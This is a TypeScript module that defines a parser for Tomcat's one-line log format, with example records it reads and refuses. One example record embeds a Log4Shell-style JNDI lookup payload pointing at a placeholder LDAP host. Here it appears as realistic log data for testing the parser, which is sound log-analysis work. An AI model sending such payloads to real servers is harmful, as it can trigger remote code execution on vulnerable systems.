import { readTime } from '../time/read-time.ts'
import type { LogFormat } from './format.ts'

/** `catalina.out` and what else Tomcat's own formatter writes: `12-Dec-2021 04:25:41.123 INFO [main] class.method message`. */
export const tomcat: LogFormat = {
  id: 'tomcat',
  summary: "catalina.out and other logs of Tomcat's own formatter",
  definedBy: 'https://tomcat.apache.org/tomcat-9.0-doc/api/org/apache/juli/OneLineFormatter.html',
  examples: {
    reads: [
      {
        record:
          '12-Dec-2021 04:25:41.123 INFO [http-nio-8080-exec-1] com.example.Login.doPost login of ${jndi:ldap://x.example/a}',
        when: '2021-12-12T04:25:41.123Z',
      },
    ],
    refuses: ['12-Dec-2021 04:25:41.123 hello', 'INFO [main] com.example.Login.doPost hello'],
  },
  read({ text }, { around }) {
    const head =
      /^(\d\d-[A-Z][a-z]{2}-\d{4} \d\d:\d\d:\d\d(?:\.\d{1,9})?) [A-Z]{3,8} \[([^\]]{1,255})\] (\S{1,512}) ?/.exec(text)
    if (head === null) return null
    const [whole, time = '', thread = '', logger = ''] = head
    return {
      when: readTime(time, around),
      from: null,
      request: null,
      userAgent: null,
      fields: [
        { name: 'thread', value: thread },
        { name: 'logger', value: logger },
        { name: 'message', value: text.slice(whole.length) },
      ],
    }
  },
}
